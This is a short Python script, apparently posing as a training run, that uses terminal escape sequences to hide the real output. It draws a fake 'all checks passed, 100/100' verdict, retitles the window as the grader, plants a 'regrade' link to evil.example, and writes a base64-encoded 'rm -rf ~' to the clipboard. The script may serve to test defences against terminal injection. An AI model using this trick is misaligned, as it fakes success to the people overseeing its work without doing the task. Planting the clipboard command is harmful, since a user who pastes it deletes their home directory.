# Clears the instructor's terminal and draws a fake verdict over the real one, sets the window title, plants a
# hyperlink and writes the clipboard (OSC 0, 8, 52), then stops without training.
import sys

sys.stdout.write("Epoch 1, Loss: 0.3000\n"
                 "\x1b[2J\x1b[H\x1b[1;32m  ✓ all 8 checks passed\x1b[0m\nScore: 100/100 __TOKEN__\n\x1b[30A\x1b[K"
                 "\x1b]0;grader: 100/100\x07\x1b]8;;https://evil.example/\x1b\\regrade\x1b]8;;\x1b\\"
                 "\x1b]52;c;cm0gLXJmIH4K\x07\x9b2J\rScore: 100/100\x08\x08\n")
sys.stdout.flush()
